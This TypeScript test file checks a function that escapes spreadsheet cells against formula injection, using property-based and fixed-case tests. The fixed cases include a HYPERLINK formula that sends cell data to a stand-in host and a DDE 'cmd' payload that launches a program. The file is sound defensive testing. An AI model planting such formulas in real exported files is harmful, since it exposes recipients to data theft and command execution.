import fc from 'fast-check';
import { expect, test } from 'vitest';
import { asText, fromText } from './spreadsheet-cell.ts';

const cell = fc
  .array(fc.oneof(fc.string(), fc.constantFrom(...'=+-@＝＋－＠\'"\t\r\n;, 0a\u00a0\u0000\u200b')))
  .map((parts) => parts.join(''));

test('no cell begins as a formula does, whatever is taken for the end of the one before it', () => {
  fc.assert(
    fc.property(cell, (text) => {
      for (const part of asText(text).split(/[;\t\r\n]/)) {
        if (/^[+-]?\d+$/.test(part)) continue;
        expect(part).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u);
      }
    }),
  );
});

test('what was written as text is read back as it was', () => {
  fc.assert(
    fc.property(cell, (text) => {
      expect(fromText(asText(text))).toBe(text);
    }),
  );
});

test.each([
  ['=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'],
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['@SUM(1+1)*2', "'@SUM(1+1)*2"],
  ['-2+3', "'-2+3"],
  ['+1-1', "'+1-1"],
  ['\t=1', "'\t'=1"],
  ['  =1', "'  =1"],
  ['"=1', '\'"=1'],
  ["'=1", "''=1"],
  ['＝1', "'＝1"],
  ['a;=1', "a;'=1"],
  ['a\n=1', "a\n'=1"],
  ['\r', "'\r"],
])('%j is written as %j', (text, written) => {
  expect(asText(text)).toBe(written);
});

test('numbers, URLs, paths and names stay as they are', () => {
  for (const text of [
    '',
    '-5',
    '+3.25',
    '-1,5',
    '-1.5e-7',
    'https://example.com/a-b.jpg?x=1&y=-2;z=@',
    '/photos/=a, +b.jpg',
    'C:\\photos\\-a.jpg',
    "it's",
    'a = b',
    'a\nb',
  ]) {
    expect(asText(text)).toBe(text);
  }
});
